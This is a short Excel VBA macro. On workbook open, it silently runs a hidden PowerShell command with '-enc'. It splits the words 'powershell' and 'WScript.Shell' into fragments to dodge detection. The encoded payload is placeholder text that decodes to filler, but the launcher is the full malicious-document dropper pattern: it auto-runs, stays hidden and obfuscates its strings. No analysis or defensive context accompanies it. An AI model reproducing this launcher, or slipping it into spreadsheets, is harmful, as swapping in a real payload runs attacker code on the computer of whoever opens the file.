Sub Workbook_Open()
    Dim c As String
    c = "pow" & "ersh" & "ell -nop -w hidden -e" & "nc "
    c = c & "bm90aGluZyBpcyBoZXJlIGFuZCBub3RoaW5nIGhhcHBlbnMgbm90aGluZyBpcyBoZXJl"
    c = c & "IGFuZCBub3RoaW5nIGhhcHBlbnMgbm90aGluZyBpcyBoZXJlIGFuZCBub3RoaW5nIGhh"
    CreateObject("WScr" & "ipt.She" & "ll").Run c, 0, False
End Sub
